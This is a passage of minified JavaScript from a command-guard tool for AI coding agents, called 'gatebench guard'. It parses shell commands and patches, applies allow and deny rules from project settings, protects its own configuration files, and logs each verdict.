folder:s},r){let n=e.replace(/\$(?:(\w+)|\{(\w+)\})/g,(i,a,l)=>{let c=r.get(a??l);return c!==void 0&&/^[\w./@+-]+$/.test(c)?c:i}),{invocations:o}=t.parse(e,s);return n===
e?o:[...o,...t.parse(n,s).invocations]}function v1({rules:t,allow:e,deny:s}){return e.size===0&&s.size===0?t:t.filter(({id:r,severity:n})=>n==="catastrophic"||!e.
has(r)).map(r=>s.has(r.id)?x1(r):r)}function x1({trust:t,...e}){let{level:s,match:r,...n}=e,o=r?.map(i=>{let{level:a,...l}=i;return l});return{...n,...we({match:o})}}
var $1=(t,{folder:e,home:s})=>r=>{if(!("command"in r))return[r];let n=t.parse(r.command,r.folder).invocations.flatMap(o=>{let{program:i,input:a,args:l}=o;if(i!==
"apply_patch"&&i!=="applypatch")return[];let c=a?.kind==="text"?a.text:l[0]?.text??"";if(!c.includes("*** Begin Patch"))return[];let d=xg(o,r.folder??e,s);if(d===
void 0)throw new ve("the folder of the patch is unknown");return Ls(c,d)});return[r,...n]},_1=`${Ds} would allow it, which counts after "gatebench guard install\
 CLIENT --trust-project-settings"`;function S1(t,{guard:e,plain:s,principal:r,settings:n}){let o=e.judge(t,r);if(o.verdict==="deny"){let l=n.deny.has(o.rule),c=n.
ignored.has(o.rule)?`; ${_1}`:"",d=l?`; denied by ${Ds}`:c,u=`${o.reason} (gatebench guard: ${o.rule}${d})`;return{decision:l?"deny":C1(o),rule:o.rule,message:u,
request:t}}let i=s?.judge(t,r);if(i?.verdict!=="deny")return{decision:"none",rule:"",message:"",request:t};let a=`gatebench guard: ${i.rule} is allowed by ${Ds}`;
return{decision:"none",rule:i.rule,message:a,request:t}}function C1({severity:t,category:e}){return e==="unreadable"||e==="unparsed"?"ask":Mt[t]<=Mt.severe?"den\
y":"ask"}function E1(t,e,{folder:s,home:r,files:n}){let o=vg(t,{folder:s,home:r},n,e);return o===void 0?[]:[{decision:"ask",rule:"guard-settings",message:`${`${o}\
 decides what this agent may do. Ask the person to change it.`} (gatebench guard: guard-settings)`,request:t}]}var Mn=4*1024*1024;function Ag(t,e){if(e.length>Mn)throw new ve(`the input is larger than ${Mn} bytes`);return es[t].readCall(zi(e))}function Tg(t,e,s){let r=es[t],
{settings:n,...o}=s,i=Eg(e,n,o);if(!i)return{output:od(t)};let a=i.decision==="ask"&&!r.can_ask?"deny":i.decision,l=mr(i.message);return{output:r.formatAnswer({
decision:a,message:l}),judgement:{...i,decision:a}}}var od=t=>es[t].formatAnswer({decision:"none",message:""}),Pg=(t,e)=>es[t].formatRefusal(mr(`gatebench guard\
: the call was not judged, so it is refused: ${e}`));var MP=async()=>(await(await __import("../engine/index.js")).bundle.engine.guard()).hookParts,yo={settings:()=>Promise.resolve().then(()=>(_w(),$w)),rules:async()=>(await MP()).
rules(),log:()=>Promise.resolve().then(()=>(pk(),uk))};var wo=require("node:fs"),rs=require("node:path");Qr();var Ga=require("node:fs"),DV=16*2**20,jV=256*2**20;function fk(t,e=Number.POSITIVE_INFINITY){let s=(0,Ga.statSync)(t);if(!s.isFile())throw Object.assign(new Error(
`${t} is not a file`),{code:"not a file"});if(s.size>e){let r=`larger than ${e/1048576} MiB`;throw Object.assign(new Error(`${t} is ${r}`),{code:r})}return(0,Ga.readFileSync)(
t)}var FP=64*1024;function mk(t,e){let s=hk(t),r=s.findIndex(l=>(0,wo.existsSync)((0,rs.join)(l,".git"))),n=r===-1?void 0:s[r],o=n!==void 0&&(e===void 0||!VP(e,n)),
a=(o?s.slice(0,r+1):[t]).map(l=>(0,rs.join)(l,Ds)).find(l=>(0,wo.existsSync)(l));return{top:o?n:t,guard_file:a}}function hk(t){let e=(0,rs.dirname)(t);return e===
t?[t]:[t,...hk(e)]}var VP=(t,e)=>t===e||t.startsWith(e.endsWith("/")?e:`${e}/`);async function gk({top:t,guard_file:e},{level:s,trusted:r}){if(e===void 0)return nd(
s);let n=(0,rs.relative)(t,e),o=HP(e,n),{readGuardFile:i,checkGuardFile:a}=await yo.settings(),l=i(o,n),c=(0,rs.dirname)(e),d=l.rules.map(({name:f})=>(0,rs.join)(
c,f)),u=d.length===0?nd().rules:await UP(d,t);a(l,u);let p=l.allow.map(({name:f})=>f);return{level:bg(s,r||l.level==="strict"?l.level:void 0),rules:u,allow:new Set(
r?p:[]),ignored:new Set(r?[]:p),deny:new Set(l.deny.map(({name:f})=>f)),files:[e,...d].flatMap(f=>[f,(0,wo.realpathSync)(f)])}}async function UP(t,e){let{combineRules:s,
readRulesFile:r}=await yo.rules();return s(t.map(n=>r((0,rs.relative)(e,n),e)))}function HP(t,e){try{return fk(t,FP).toString("utf8")}catch(s){throw new tt(`${e}\
: cannot be read (${s.code})`)}}var BP=5e3;async function zP(t,e){let s;try{s=JP(t)}catch(r){let n=t.find((i,a)=>t[a-1]==="--hook"),o=`gatebench guard: ${wk(r)}`;return sd(n)?es[n].formatRefusal(
o):Qt(o)}try{let{output:r,judgement:n}=await GP(s,e),o=n&&await bk(s,e,n);return o===void 0?r:yk(r,o)}catch(r){let n=wk(r),o=await bk(s,e,{decision:"error",rule:"",
request:{text:n}}),i=Pg(s.client,n);return o===void 0?i:yk(i,o)}}async function GP({client:t,level:e,trusted:s},r){let n=r.now().getTime(),o=Ag(t,await YP(r.input));
if(o.requests.length===0)return{output:od(t)};let{project_variable:i}=es[t],a=r.variable("HOME"),l=i&&r.variable(i)||o.project||r.cwd,c=mk(l,a),d=o.folder??l,u=()=>r.
now().getTime()-n>BP,p={settings:await gk(c,{level:e,trusted:s}),top:c.top,home:a,...KP(r,a),isLate:u};return Tg(t,{...o,folder:d},p)}function KP({variable:t,program_folders:e=[]},s){
let r=["CLAUDE_CONFIG_DIR","CODEX_HOME","XDG_CONFIG_HOME","XDG_CACHE_HOME"],n=new Map(r.map(a=>[a,t(a)??""])),o=(a,...l)=>{let c=n.get(a);return c===void 0||!(0,ko.isAbsolute)(
c)?[]:l.map(d=>(0,ko.join)(c,d))};return{own_files:[...e,...o("CLAUDE_CONFIG_DIR","settings.json","settings.local.json"),...o("CODEX_HOME","hooks.json","config.\
toml"),...o("XDG_CONFIG_HOME","opencode/plugins/gatebench-guard.js"),...o("XDG_CACHE_HOME","gatebench-code"),...s===void 0?[]:[(0,ko.join)(s,".cache/gatebench-c\
ode")]],variables:n}}async function YP(t){let e=[],s=0;for await(let r of t){let n=typeof r=="string"?Buffer.from(r):r;if(s+=n.length,s>Mn)throw new ve(`the inp\
ut is larger than ${Mn} bytes`);e.push(n)}return Buffer.concat(e)}async function bk({client:t,log:e},{now:s},{decision:r,rule:n,request:o}){if(e!==void 0)try{let{
appendLogLine:i}=await yo.log(),a=r==="none"?"pass":r;i(e,{time:s(),client:t,verdict:a,rule:n,subject:QP(o)});return}catch(i){return`gatebench guard: the log ca\
nnot be written (${i.code??"error"})`}}function QP(t){return"command"in t?t.command:"write"in t?`write ${t.write}`:t.text}var yk=(t,e)=>({...t,stderr:`${t.stderr}${e}\

`}),wk=t=>t instanceof Error?t.message:String(t),kk="--project-settings",XP=["--hook","--level","--log"];function JP(t){let e=new Map,s=t.values();for(let i of s){
if(i===kk){e.set(i,i);continue}let[a,l]=ZP(i);if(!XP.includes(a))throw new tt(`unknown argument "${i}" beside --hook`);let c=l??s.next().value;if(c===void 0||c===
"")throw new tt(`${a} has no value`);e.set(a,c)}let r=e.get("--hook");if(!sd(r))throw new tt(`--hook must be one of ${hg.join(", ")}`);let n=e.get("--level"),o=ir.
find(i=>i===n);if(n!==void 0&&o===void 0)throw new tt(`--level must be one of ${ir.join(", ")}`);return{client:r,level:o,trusted:e.has(kk),log:e.get("--log")}}function ZP(t){
let e=t.startsWith("--")?t.indexOf("="):-1;return e===-1?[t,void 0]:[t.slice(0,e),t.slice(e+1)]}0&&(module.exports={CLOSED_CONTAINER,GuardrailSuite,NON_EMPTY_VALUE,OWN_CONTAINER,SEVERITY_ORDER,UNKNOWN_VALUE,UNREAD_VALUE,codeLanguages,completeName,concatenateWords,
createGuard,createShellInvocation,createShippedGuard,createWord,createWords,findAffectedPaths,findDeletedPaths,getDeletedPatterns,getFeeders,getFindPatterns,getGrammar,
guardLevels,hasFlag,hasUnreadValue,isKnownWord,isRemotePath,listOutputFiles,parseProgramArguments,pathClasses,pathEffects,phraseRules,readCode,readCommand,replaceWithUnevaluated,
replaceWithUnknown,resolveFoundPaths,runHook,shippedGuardRules,vocabulary,writeLine});
